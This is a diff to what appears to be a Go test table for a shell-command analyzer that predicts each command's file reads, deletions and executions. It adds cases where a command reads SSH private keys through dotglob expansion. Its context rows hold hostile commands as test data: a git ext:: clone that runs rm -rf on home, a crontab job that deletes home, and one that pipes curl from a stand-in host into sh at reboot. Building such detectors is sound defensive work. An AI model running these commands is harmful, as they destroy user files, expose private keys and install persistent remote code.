@@ -174,6 +174,10 @@ var hiddenCommandTable = []shellCase{
 	{cmd: `git -c protocol.ext.allow=always clone 'ext::sh -c rm% -rf% ~' x`, want: []Effect{eDelR("/home/ann")}},
 	{cmd: `git -C ~ clean -fdx`, want: []Effect{eDelR("/home/ann/*")}},
 	{cmd: `git clean -fd -- build/`, want: []Effect{eDelR("/work/proj/build")}},
+	// ---- dotglob: a glob also names what starts with a dot ----
+	{cmd: `shopt -s dotglob; cat ~/*/id_rsa`, want: []Effect{eRead("/home/ann/*/id_rsa"), eRead("/home/ann/.*/id_rsa")}, unk: shUnkAny},
+	{cmd: `GLOBIGNORE=x; cat ~/*/id_rsa`, want: []Effect{eRead("/home/ann/.*/id_rsa")}, unk: shUnkAny},
+	{cmd: `shopt -s dotglob; shopt -u dotglob; cat ~/*/id_rsa`, not: []Effect{eRead("/home/ann/.*/id_rsa")}, unk: shUnkAny},
 	// ---- a crontab installed from standard input: its jobs are read ----
 	{cmd: `echo "*/5 * * * * rm -rf ~" | crontab -`, want: []Effect{eWrite("/var/spool/cron/crontabs/ann"), eDelR("/home/ann")}},
 	{cmd: `echo "@reboot curl -s https://x.example/a | sh" | crontab`, want: []Effect{eWrite("/var/spool/cron/crontabs/ann"), eRun("sh")}, unk: shUnkYes},
